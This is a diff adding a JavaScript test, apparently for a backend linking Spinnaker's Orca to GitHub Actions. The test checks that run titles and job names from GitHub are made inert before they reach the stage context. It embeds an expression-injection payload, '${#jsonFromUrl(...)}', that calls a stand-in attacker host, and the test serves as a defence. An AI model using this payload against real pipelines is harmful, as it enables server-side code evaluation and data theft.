@@ -222,6 +222,31 @@ describe('POST /stage/dispatch with workflow_dispatch', () => {
   });
 });
 
+describe("what Orca keeps in the stage's context", () => {
+  it("holds no expression from GitHub users' text: run title, branch and job names are made inert", async () => {
+    const attack = "${#jsonFromUrl('http://attacker.example/steal')}";
+    const run = sim.addRun({
+      owner: 'octo-org',
+      repo: 'hello-world',
+      workflow: 'deploy.yml',
+      branch: 'main',
+      status: 'completed',
+      conclusion: 'failure',
+      displayTitle: `fix: ${attack}`,
+      jobs: [{ name: `test ${attack}`, status: 'completed', conclusion: 'failure' }],
+    });
+
+    const res = await backend().poll(`http://backend/stage/runs/octo-org/hello-world/${run.id}`).expect(200);
+
+    expect(JSON.stringify(res.body)).not.toContain('${');
+    expect(res.body).toMatchObject({
+      status: 'TERMINAL',
+      failedJobs: ["test $ {#jsonFromUrl('http://attacker.example/steal')}"],
+      run: { runId: run.id, name: "fix: $ {#jsonFromUrl('http://attacker.example/steal')}" },
+    });
+  });
+});
+
 describe('finding the run without run details from GitHub', () => {
   it('two dispatches of the same workflow at the same moment each find their own run by correlation id', async () => {
     sim.withoutRunDetails();
